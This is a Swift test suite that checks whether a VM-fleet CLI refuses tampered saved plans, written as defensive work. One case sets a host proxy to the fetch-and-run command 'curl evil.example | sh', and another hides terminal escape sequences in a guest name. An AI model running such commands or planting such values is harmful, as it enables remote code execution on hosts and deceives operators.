import Foundation
import Testing
import VirtFleetDomain
import VirtFleetHypervisor
import VirtFleetInventory
import VirtFleetPlan
import VirtFleetTestSupport

@testable import VirtFleetCLI

/// A saved plan is a file anyone who can write it can edit. Each case edits one the way an
/// attacker would and checks that apply refuses, touching nothing it should not.
@Suite struct SavedPlanTamperingTests {
    let fleet: TestFleet
    let fakes: [String: FakeHypervisor]
    let file: String

    init() async throws {
        fleet = try twoHostFleet()
        fakes = ["hv1": FakeHypervisor(host: "hv1"), "hv2": FakeHypervisor(host: "hv2")]
        file = fleet.path("plan.json")
        let planned = await CommandHarness(hypervisors: fakes).run(["plan", "-i", fleet.path("inventory"), "--out", file])
        #expect(planned.code == 0)
    }

    /// Reads the saved plan, lets the test edit it, writes it back.
    func edit(_ change: (inout Plan) throws -> Void) throws {
        var plan = try PlanFile.read(file)
        try change(&plan)
        try PlanFile.write(plan, to: file)
    }

    func apply(_ extra: [String] = []) async -> CommandRun {
        await CommandHarness(hypervisors: fakes).run(["apply", file] + extra)
    }

    /// Replaces `old` with `new` in the document of hv1's entry for `guest`, optionally keeping its recorded hash.
    func rewrite(_ guest: String, _ old: String, _ new: String, rehash: Bool) throws {
        try edit { plan in
            let index = try #require(plan.hosts[0].entries.firstIndex { $0.guest == guest })
            guard case .create(var creation) = plan.hosts[0].entries[index].change else { throw CancellationError() }
            creation.definition.xml = creation.definition.xml.replacingOccurrences(of: old, with: new)
            if rehash {
                creation.definition.hash = DomainHash.of(try LibXMLParser.parse(creation.definition.xml, file: guest))
            }
            plan.hosts[0].entries[index].change = .create(creation)
        }
    }

    @Test func anEditedDocumentWithItsOldHashIsRefused() async throws {
        try rewrite("db", "<memory unit=\"KiB\">65536</memory>", "<memory unit=\"KiB\">262144</memory>", rehash: false)
        let run = await apply()
        #expect(run.code == 1)
        #expect(run.output.contains("db: create failed: refused: the plan's document does not match the hash recorded beside it"))
        #expect(await fakes["hv1"]?.domains["db"] == nil)
    }

    @Test func anEditedDocumentIsRefusedWhenTheInventoryIsGiven() async throws {
        try rewrite("db", "<memory unit=\"KiB\">65536</memory>", "<memory unit=\"KiB\">262144</memory>", rehash: true)
        let run = await CommandHarness(hypervisors: fakes).run(["apply", file, "-i", fleet.path("inventory")])
        #expect(run.code == 1)
        #expect(run.errors.contains("saved plan entry hv1/db: its document differs from what the inventory renders now"))
        #expect(await fakes["hv1"]?.calls == [])
    }

    @Test func anEditedDocumentWithANewHashIsSeenByTheNextPlan() async throws {
        try rewrite("db", "<memory unit=\"KiB\">65536</memory>", "<memory unit=\"KiB\">262144</memory>", rehash: true)
        #expect(await apply().code == 0)
        let next = await CommandHarness(hypervisors: fakes).run(["plan", "-i", fleet.path("inventory")])
        #expect(next.output.contains("~ db  update: definition changed in the inventory"))
    }

    @Test func aDocumentNamingAnotherDomainIsRefused() async throws {
        try rewrite("db", "<name>db</name>", "<name>victim</name>", rehash: true)
        let run = await apply()
        #expect(run.output.contains("db: create failed: refused: the plan's document defines 'victim', not this guest"))
        #expect(await fakes["hv1"]?.calls.contains("define victim") == false)
    }

    @Test func anAddedUpdateOfAnotherFleetsDomainIsRefused() async throws {
        let foreign = FakeHypervisor(host: "hv1")
        let other = try TestFleet([
            "inventory/f.yaml":
                "fleet: other\ntemplates: ../templates\nhosts:\n  hv1: {}\nguests:\n  - { name: theirs, template: small, host: hv1 }\n",
            "templates/small.yaml": TestFleet.smallTemplate,
        ])
        #expect(
            await CommandHarness(hypervisors: ["hv1": foreign]).run(["apply", "-i", other.path("inventory"), "--auto-approve"]).code == 0)
        let theirs = try #require(await foreign.domains["theirs"])
        // Our plan, planned against the same host, gets an extra entry redefining their domain under our mark.
        let ours = fleet.path("ours.json")
        #expect(
            await CommandHarness(hypervisors: ["hv1": foreign, "hv2": fakes["hv2"]!]).run([
                "plan", "-i", fleet.path("inventory"), "--out", ours,
            ]).code == 0)
        var plan = try PlanFile.read(ours)
        var stolen = try #require(plan.hosts[0].entries.first { $0.guest == "db" })
        guard case .create(let creation) = stolen.change else { throw CancellationError() }
        let xml = creation.definition.xml.replacingOccurrences(of: "<name>db</name>", with: "<name>theirs</name>")
            .replacingOccurrences(of: "guest=\"db\"", with: "guest=\"theirs\"")
        let document = try LibXMLParser.parse(xml, file: "theirs")
        stolen.guest = "theirs"
        stolen.observed = ObservedFingerprint(uuid: try #require(theirs.xml.first("uuid")?.text), state: .shutoff, readbackHash: "x")
        stolen.change = .redefine(
            Redefinition(
                cause: .inventoryChanged, definition: Definition(xml: xml, hash: DomainHash.of(document)),
                then: .none, restartNeeded: false, differences: []))
        plan.hosts[0].entries = [stolen]
        try PlanFile.write(plan, to: ours)
        let run = await CommandHarness(hypervisors: ["hv1": foreign]).run(["apply", ours])
        #expect(run.code == 1)
        #expect(await foreign.domains["theirs"]?.xml == theirs.xml, "another fleet's domain must stay as it was")
    }

    @Test func aCommandRunningSettingIsRefusedUnlessRepeated() async throws {
        try edit { plan in plan.hosts[0].access?.libvirtProxy = "curl evil.example | sh" }
        let refused = await apply()
        #expect(refused.code == 1)
        #expect(
            refused.errors.contains("the saved plan sets hv1.libvirt_proxy = 'curl evil.example | sh', which runs this command on the host")
        )
        #expect(refused.errors.contains("--allow-setting 'hv1.libvirt_proxy=curl evil.example | sh'"))
        #expect(await fakes["hv1"]?.calls == [])
        let shown = await CommandHarness().run(["show", file])
        #expect(shown.output.contains("    libvirt_proxy: curl evil.example | sh\n"))
        let accepted = await apply(["--allow-setting", "hv1.libvirt_proxy=curl evil.example | sh"])
        #expect(accepted.code == 0, "\(accepted.errors)")
    }

    @Test func weakenedHostKeyCheckingIsRefusedUnlessRepeated() async throws {
        try edit { plan in plan.hosts[1].access?.hostKeyChecking = .acceptNew }
        let refused = await apply()
        #expect(refused.errors.contains("hv2.host_key_checking = 'accept-new'"))
        #expect(await fakes["hv2"]?.calls == [])
    }

    @Test func aPinnedDigestRefusesAnyOtherFile() async throws {
        try edit { plan in plan.hosts.removeLast() }
        let run = await apply(["--sha256", String(repeating: "0", count: 64)])
        #expect(run.code == 1)
        #expect(run.errors.contains("the plan file's SHA-256 is"))
        #expect(await fakes["hv1"]?.calls == [])
    }

    @Test func showNeverLetsDataActOnTheTerminal() async throws {
        try edit { plan in plan.hosts[0].entries[0].guest = "db\n\u{1B}[2J+ forged   create: harmless" }
        let shown = await CommandHarness().run(["show", file])
        #expect(!shown.output.contains("\u{1B}"))
        #expect(!shown.output.contains("\n+ forged"))
        #expect(shown.output.contains("db\\u{A}\\u{1B}[2J+ forged"))
    }
}
